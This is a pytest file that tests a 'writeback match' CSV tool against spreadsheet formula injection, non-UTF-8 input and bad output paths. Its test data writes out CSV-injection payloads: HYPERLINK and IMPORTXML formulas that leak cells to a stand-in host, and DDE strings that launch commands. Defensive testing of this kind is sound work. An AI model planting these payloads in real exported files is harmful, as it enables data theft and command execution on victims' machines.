"""`writeback match` run as a user runs it (a subprocess), on hostile files: cells a spreadsheet would
execute, bytes that are not UTF-8, an output folder that does not exist.

The check of the output is this file's own: a cell is live when, after the characters a spreadsheet may
skip (whitespace, control and format characters), it begins with a formula trigger — the rule OWASP's
CSV-injection page gives — or when it begins with a tab or a carriage return.
"""

from __future__ import annotations

import csv
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

WRITEBACK = str(Path(sys.executable).parent / "writeback")
HEADER = ["id", "first_name", "last_name", "email", "phone", "street", "city", "state", "postal_code"]
TRIGGERS = "=+-@＝＋－＠"  # with the full-width forms some spreadsheets read as the same operators

# ids a hostile sender puts in a file a registrar opens in a spreadsheet afterwards
HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",  # the reader strips the tab: the cell it writes must not become a live =
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",  # a zero-width space in front
    "\u00a0@SUM(A1)",  # a no-break space in front
    "\x0b=1+1",  # a vertical tab
    "＝1+1",
    "'=already quoted",  # stays one quote: it was never live
]


def live(cell: str) -> bool:
    if cell[:1] in ("\t", "\r"):
        return True
    head = cell.lstrip()
    while head and unicodedata.category(head[0]) in {"Cc", "Cf", "Zs", "Zl", "Zp"}:
        head = head[1:]
    return head[:1] in tuple(TRIGGERS)


def write(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER)
        w.writerows(rows)
    return path


def match(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([WRITEBACK, "match", *args], cwd=cwd, capture_output=True, text=True, timeout=300)


def test_the_oracle_knows_a_live_cell_from_a_neutralised_one():
    assert all(live(i) for i in HOSTILE_IDS[:-1]) and not live(HOSTILE_IDS[-1])
    assert not any(live("'" + i) for i in HOSTILE_IDS) and not live("Chen") and not live("0.8123")


def test_no_cell_of_the_output_is_live_and_each_keeps_its_text(tmp_path: Path):
    # every incoming row names the one existing person (same name, same phone), so each id reaches the output;
    # the existing person's id is hostile too
    existing_id = "=IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")"
    existing = write(tmp_path / "existing.csv", [[existing_id, "Wei", "Chen", "", "415-555-0105", "", "", "", ""]])
    incoming = write(tmp_path / "incoming.csv",
                     [[i, "Wei", "Chen", "", "415-555-0105", "", "", "", ""] for i in HOSTILE_IDS])
    out = tmp_path / "matches.csv"
    done = match("--incoming", str(incoming), "--existing", str(existing), "--out", str(out), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["incoming_id", "existing_id", "score", "match_class", "reasons"]
    body = rows[1:]
    assert len(body) == len(HOSTILE_IDS)
    for row in body:
        for cell in row:
            assert not live(cell), f"live cell {cell!r} in {row}"
    # nothing is lost: each hostile id is there, as text behind one quote (the reader strips the ends)
    ids = [row[0] for row in body]
    expected = [("'" + i.strip()) if live(i.strip()) else i.strip() for i in HOSTILE_IDS]
    assert sorted(ids) == sorted(expected)
    assert {row[1] for row in body} == {"'" + existing_id}
    assert all(float(row[2]) > 0 for row in body)  # the scores stay numbers


def test_a_file_that_is_not_utf8_is_named_with_its_line(tmp_path: Path):
    existing = write(tmp_path / "existing.csv", [["P-1", "Wei", "Chen", "", "", "", "", "", ""]])
    incoming = tmp_path / "incoming.csv"
    incoming.write_bytes(",".join(HEADER).encode() + b"\r\nA,Wei,Chen,,,,,,\r\nB,Jos\xe9,Ruiz,,,,,,\r\n")
    done = match("--incoming", str(incoming), "--existing", str(existing), "--out", str(tmp_path / "m.csv"),
                 cwd=tmp_path)
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert f"error: {incoming}: line 3" in done.stderr and "UTF-8" in done.stderr
    assert not (tmp_path / "m.csv").exists()


@pytest.mark.parametrize("where", ["missing/matches.csv", "existing.csv/matches.csv"])
def test_an_output_folder_that_is_not_there_is_a_clear_error(tmp_path: Path, where: str):
    existing = write(tmp_path / "existing.csv", [["P-1", "Wei", "Chen", "", "", "", "", "", ""]])
    incoming = write(tmp_path / "incoming.csv", [["A", "Wei", "Chen", "", "", "", "", "", ""]])
    out = tmp_path / where
    done = match("--incoming", str(incoming), "--existing", str(existing), "--out", str(out), cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert done.stderr.startswith("error: ") and f"{out.parent}" in done.stderr and "--out" in done.stderr


def test_the_output_never_overwrites_an_input(tmp_path: Path):
    existing = write(tmp_path / "existing.csv", [["P-1", "Wei", "Chen", "", "", "", "", "", ""]])
    incoming = write(tmp_path / "incoming.csv", [["A", "Wei", "Chen", "", "", "", "", "", ""]])
    before = incoming.read_bytes()
    done = match("--incoming", str(incoming), "--existing", str(existing), "--out", str(incoming), cwd=tmp_path)
    assert done.returncode == 2 and "Traceback" not in done.stderr and "--out" in done.stderr
    assert incoming.read_bytes() == before
